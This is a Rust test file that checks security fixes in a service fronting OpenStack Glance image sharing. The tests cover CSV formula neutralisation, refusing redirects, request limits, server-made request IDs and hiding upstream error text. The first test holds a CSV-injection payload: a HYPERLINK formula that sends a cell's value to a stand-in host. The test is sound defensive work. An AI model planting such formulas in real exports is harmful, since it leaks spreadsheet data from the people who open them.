//! Security fixes, each against the real dev cloud (with a fake Glance only for what a real
//! one cannot do on demand): exports neutralise formulas, redirects are never followed,
//! work per request is bounded, and Glance's own words never reach a client.

use json::{AddMembers, AddMembersResult, MemberDecision, MemberStatus};
use reqwest::{Method, StatusCode};
use serde_json::json;

use crate::fakes::{self, GLANCE_OWN_WORDS, Hostile};
use crate::harness::{
    InternalEndpoint, OpenStack, project_id, spawn_app, spawn_app_with, through_internal_endpoint,
    unique,
};

/// Item 1: bob names his image as a formula and shares it with project-a; alice's audit CSV
/// shows the name, but as text a spreadsheet never runs.
#[tokio::test]
async fn an_image_named_as_a_formula_is_text_in_the_audit_csv() {
    let app = spawn_app().await;
    let formula = r#"=HYPERLINK("http://x/"&A2,"x")"#;
    let image = OpenStack::image("RegionOne", "bob", "project-b", formula, "shared").await;
    OpenStack::share("RegionOne", &image, ("bob", "project-b"), "project-a").await;
    let alice = app.sign_in("alice", "project-a").await;

    let r = alice.get("/api/v1/audit/access?format=csv").await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let mut reader = csv::Reader::from_reader(r.body.as_bytes());
    let rows: Vec<csv::StringRecord> = reader
        .records()
        .map(|r| r.expect("a CSV row"))
        .filter(|r| r.get(1) == Some(image.as_str()))
        .collect();
    assert_eq!(rows.len(), 1, "alice's membership of bob's image");
    for cell in rows[0].iter() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {cell:?}"
        );
    }
    assert_eq!(&rows[0][2], format!("'{formula}"), "the name, as text");
}

/// Item 5: a Glance that answers with a redirect gets no token sent anywhere else, and the
/// user a clear upstream error (a change included, recorded as failed).
#[tokio::test]
async fn redirects_are_not_followed() {
    let (trap, caught) = fakes::trap().await;
    let redirector = fakes::redirector(&trap.url).await;
    let _endpoint = InternalEndpoint::point_at(&redirector.url).await;
    let app = spawn_app_with(through_internal_endpoint).await;
    let alice = app.sign_in("alice", "project-a").await;

    let err = alice
        .get("/api/v1/images?region=RegionOne&owner=me")
        .await
        .error(StatusCode::BAD_GATEWAY, "upstream_unavailable");
    assert!(err.message.contains("redirect"), "{}", err.message);
    assert!(!err.message.contains(&trap.url), "{}", err.message);

    let image = "0f8e2a4c-1b2d-4e5f-8a9b-0c1d2e3f4a5b";
    alice
        .patch(
            &format!("/api/v1/images/{image}?region=RegionOne"),
            &json!({"protected": true}),
        )
        .await
        .error(StatusCode::BAD_GATEWAY, "upstream_unavailable");
    let events = alice.events(image).await;
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].outcome.as_deref(), Some("upstream_unavailable"));

    assert_eq!(caught.requests.load(std::sync::atomic::Ordering::SeqCst), 0);
    assert_eq!(caught.tokens.load(std::sync::atomic::Ordering::SeqCst), 0);
}

/// Item 7: `member_ids` are deduplicated and capped at 128, refused beyond that with the
/// limit named and nothing changed or logged.
#[tokio::test]
async fn member_ids_are_deduplicated_and_capped() {
    let app = spawn_app().await;
    let image = OpenStack::image("RegionOne", "alice", "project-a", &unique("cap"), "shared").await;
    let alice = app.sign_in("alice", "project-a").await;
    let members = format!("/api/v1/images/{image}/members?region=RegionOne");

    let too_many: Vec<String> = (0..129).map(|i| format!("{i:032x}")).collect();
    let err = alice
        .post(
            &members,
            &AddMembers::Many {
                member_ids: too_many,
            },
        )
        .await
        .error(StatusCode::BAD_REQUEST, "invalid_input");
    assert_eq!(err.limit, Some(128));
    assert_eq!(err.field.as_deref(), Some("member_ids"));
    assert!(err.message.contains("128"), "{}", err.message);
    assert!(OpenStack::members("RegionOne", &image).await.is_empty());

    let (b, c) = (project_id("project-b"), project_id("project-c"));
    let r = alice
        .post(
            &members,
            &AddMembers::Many {
                member_ids: vec![b.clone(), format!(" {b} "), c.clone(), b.clone()],
            },
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let results = r.json::<AddMembersResult>().results;
    let ids: Vec<&str> = results.iter().map(|o| o.member_id.as_str()).collect();
    assert_eq!(ids, [b.as_str(), c.as_str()], "each id once, in order");
    assert!(results.iter().all(|o| o.status == 201), "{results:?}");

    let events = alice.events(&image).await;
    assert_eq!(events.len(), 2, "one change per distinct id");
    assert!(events.iter().all(|e| e.outcome.as_deref() == Some("ok")));
}

/// Item 7: the request id recorded with a change is the server's, never the client's.
#[tokio::test]
async fn request_ids_are_made_by_the_server() {
    let app = spawn_app().await;
    let image =
        OpenStack::image("RegionOne", "alice", "project-a", &unique("rid"), "private").await;
    let alice = app.sign_in("alice", "project-a").await;
    let chosen = "0000-chosen-by-the-client-0000";
    let r = alice
        .send_with(
            Method::PATCH,
            &format!("/api/v1/images/{image}?region=RegionOne"),
            Some(&json!({"protected": true})),
            &[("x-request-id", chosen)],
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let answered = r.headers["x-request-id"].to_str().unwrap().to_owned();
    assert_ne!(answered, chosen);
    assert!(uuid::Uuid::parse_str(&answered).is_ok(), "{answered}");

    let events = alice.events(&image).await;
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].request_id.as_deref(), Some(answered.as_str()));
}

/// Item 7: deciding for another project is refused before anything is logged.
#[tokio::test]
async fn deciding_for_another_project_is_refused_unlogged() {
    let app = spawn_app().await;
    let image = OpenStack::image("RegionOne", "carol", "project-c", &unique("nd"), "shared").await;
    OpenStack::share("RegionOne", &image, ("carol", "project-c"), "project-b").await;
    let alice = app.sign_in("alice", "project-a").await;
    let err = alice
        .put(
            &format!(
                "/api/v1/images/{image}/members/{}?region=RegionOne",
                project_id("project-b")
            ),
            &MemberDecision {
                status: MemberStatus::Accepted,
            },
        )
        .await
        .error(StatusCode::FORBIDDEN, "forbidden");
    assert!(
        err.message.contains("no account of this session"),
        "{}",
        err.message
    );
    let bob = app.sign_in("bob", "project-b").await;
    for reader in [&alice, &bob] {
        let events = reader.events(&image).await;
        assert!(events.is_empty(), "{:?}", events);
    }
    assert_eq!(
        OpenStack::members("RegionOne", &image).await,
        vec![(project_id("project-b"), "pending".into())]
    );
}

/// Item 9: whatever Glance answers, in whatever words, no client reads them, and no answer
/// is a 500: every read, every change and the audit.
#[tokio::test]
async fn glance_words_never_reach_the_client() {
    let hostile = Hostile::start().await;
    let _endpoint = InternalEndpoint::point_at(&hostile.server.url).await;
    let app = spawn_app_with(through_internal_endpoint).await;
    let alice = app.sign_in("alice", "project-a").await;
    let image = "0f8e2a4c-1b2d-4e5f-8a9b-0c1d2e3f4a5b";
    let (a, b) = (project_id("project-a"), project_id("project-b"));
    let q = "region=RegionOne";
    let decision = json!({"status": "accepted"});
    let one = json!({"member_id": b});
    let many = json!({"member_ids": [b, project_id("project-c")]});
    let patch = json!({"visibility": "shared", "protected": true});

    for status in [400, 403, 404, 409, 413, 500, 503] {
        hostile.answer_with(status);
        let answers = [
            alice
                .get(&format!("/api/v1/images?{q}&owner=all&member_status=all"))
                .await,
            alice.get(&format!("/api/v1/images/{image}?{q}")).await,
            alice
                .get(&format!("/api/v1/images/{image}/members?{q}"))
                .await,
            alice
                .post(&format!("/api/v1/images/{image}/members?{q}"), &one)
                .await,
            alice
                .post(&format!("/api/v1/images/{image}/members?{q}"), &many)
                .await,
            alice
                .delete(&format!("/api/v1/images/{image}/members/{b}?{q}"))
                .await,
            alice
                .put(
                    &format!("/api/v1/images/{image}/members/{a}?{q}"),
                    &decision,
                )
                .await,
            alice
                .patch(&format!("/api/v1/images/{image}?{q}"), &patch)
                .await,
            alice.get("/api/v1/audit/access?format=json").await,
            alice.get("/api/v1/audit/access").await,
        ];
        for r in answers {
            assert!(
                !r.body.contains(GLANCE_OWN_WORDS) && !r.body.contains("Traceback"),
                "Glance {status}: Glance's words reached the client: {}",
                r.body
            );
            assert_ne!(
                r.status,
                StatusCode::INTERNAL_SERVER_ERROR,
                "Glance {status}: {}",
                r.body
            );
            assert_ne!(
                r.status,
                StatusCode::UNAUTHORIZED,
                "Glance {status}: {}",
                r.body
            );
        }
    }
    assert!(hostile.calls.load(std::sync::atomic::Ordering::SeqCst));
}
